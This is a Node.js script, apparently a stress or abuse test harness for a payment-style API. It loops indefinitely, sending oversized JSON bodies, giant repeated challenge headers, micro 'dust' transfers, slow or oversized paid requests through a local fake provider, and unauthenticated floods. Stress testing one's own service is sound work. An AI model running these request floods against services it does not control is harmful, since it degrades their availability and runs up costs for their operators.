// Makes one kind of requests against a service until it is killed: `node attacks.mjs <kind> <base url> <agent key> <account> <payee>`.
import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';

const [kind, baseUrl, key, account, payee] = process.argv.slice(2);
const large = Buffer.alloc(1024 * 1024, 'x');
/** The attacker's provider, which says nothing where it is not asked for much. */
const provider = createServer((request, response) => {
  if (request.url === '/large') response.end(large);
});
await new Promise((resolve) => provider.listen(0, '127.0.0.1', resolve));
const seller = `http://127.0.0.1:${provider.address().port}`;
const members = JSON.stringify(Object.fromEntries(Array.from({ length: 24_000 }, (_, index) => [`m${index}`, 1])));
const challenge = `Payment ${'a=b, '.repeat(12_000)}`;
const paid = (path, more = {}) => ({
  account_id: account,
  max_amount: '1',
  idempotency_key: randomUUID(),
  request: { url: `${seller}${path}`, ...more },
});

/** Each kind: path, body, with the agent's key or without one, and how many at once. */
const kinds = {
  members_without_key: () => ['/dashboard/session', members, false, 4],
  members_of_agent: () => ['/v1/transfers', members, true, 4],
  challenges: () => [
    '/v1/payments/authorize',
    { account_id: account, url: `${seller}/`, challenges: Array(4).fill(challenge), max_amount: '1', idempotency_key: randomUUID() },
    true,
    4,
  ],
  dust: () => ['/v1/transfers', { from: account, to: payee, amount: '0.000001', idempotency_key: randomUUID() }, true, 16],
  free_answers: () => ['/v1/payments', paid('/large', { method: 'GET' }), true, 8],
  silent_provider: () => ['/v1/payments', paid('/silent', { method: 'POST', body: 'x'.repeat(250_000) }), true, 600],
  refused: () => ['/v1/payments', paid('/', { url: 'ftp://example.com' }), true, 8],
  flood: () => ['/v1/accounts', undefined, false, 64],
};

async function attack() {
  const [path, body, isAgent] = kinds[kind]();
  const headers = { ...(isAgent && { Authorization: `Bearer ${key}` }), ...(body !== undefined && { 'Content-Type': 'application/json' }) };
  const text = typeof body === 'object' ? JSON.stringify(body) : body;
  const response = await fetch(new URL(path, baseUrl), { method: body === undefined ? 'GET' : 'POST', headers, body: text });
  await response.arrayBuffer();
}

const [, , , atOnce] = kinds[kind]();
for (let worker = 0; worker < atOnce; worker++)
  void (async () => {
    for (;;) await attack().catch(() => new Promise((resolve) => setTimeout(resolve, 50)));
  })();
